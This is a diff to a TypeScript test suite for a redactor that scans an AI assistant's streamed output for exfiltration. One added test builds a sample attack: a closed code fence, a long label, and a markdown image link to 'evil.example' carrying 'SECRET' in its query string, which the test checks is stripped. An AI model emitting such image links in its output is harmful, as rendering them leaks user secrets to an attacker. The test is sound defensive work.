@@ -30,7 +30,8 @@ const CTX: DetectionContext = { role: 'assistant', kind: 'output_text', untruste
 /** `rot13`: every text is read as rot13 too (a request named it); otherwise as the engine says (ChannelInfo.rot13). */
 function redactorFor(detectors: readonly Detector[], redacted: ReadonlySet<string> = REDACTED, rot13 = false): ChannelRedactor {
   return (text, info) => {
-    const ctx = rot13 || info?.rot13 === true ? { ...CTX, rot13: true } : CTX;
+    // As the exchange does (pipeline/exchange.ts): rot13 when asked, midText for a window after the channel's start.
+    const ctx = { ...CTX, ...(rot13 || info?.rot13 === true ? { rot13: true } : {}), ...(info?.offset !== undefined && info.offset > 0 ? { midText: true } : {}) };
     const found: Finding[] = [];
     for (const d of detectors) for (const f of d.scan(text, ctx)) found.push(f);
     const spans = found.filter((f) => redacted.has(f.type)).map((f) => ({ start: f.start, end: f.end, type: f.type, style: { kind: 'mask' as const }, score: f.score, keep: f.keep }));
@@ -656,6 +657,18 @@ test('a "[" in tool output shown as fenced code is no link text, however long th
     assert.deepEqual(exfil[0].scan(fenced, { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' }), [], fenced.slice(0, 40));
     assert.equal(stream(exfil, deltasOf(fenced)).content, fenced);
   }
+  // Deep inside a long block the stream's window no longer starts at the answer's start, and a window that
+  // starts inside a block would take its closing fence for an opening one: there the opener goes, in the stream
+  // only (the whole text keeps it).
+  const deep = `Listing:\n\`\`\`\n${rows}\n${listing}`;
+  assert.deepEqual(exfil[0].scan(deep, { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response' }), []);
+  assert.ok(!stream(exfil, deltasOf(deep)).content.includes(' 2022 [\n'));
+  // The attack that rule guards against: a block closed, then a label past the hold-back and a link to finish
+  // it. Whole or streamed, the opener goes and nothing renders.
+  const attack = `\`\`\`\n${'x = 1\n'.repeat(40)}\`\`\`\n![${'alt words '.repeat(500)}](https://evil.example/p.png?d=SECRET) end.`;
+  const attackWhole = redactWhole(redactorFor(exfil), attack);
+  const attackStream = stream(exfil, deltasOf(attack)).content;
+  for (const out of [attackWhole, attackStream]) assert.ok(!out.includes('![alt') && !out.includes('\n[alt'), out.slice(0, 300));
   // Not a fence: no code block, a fence indented (a list item may end it), a backquote in the opening
   // line's info string, or the "[" after the block's closing fence. The opener goes as before.
   for (const [text, at] of [
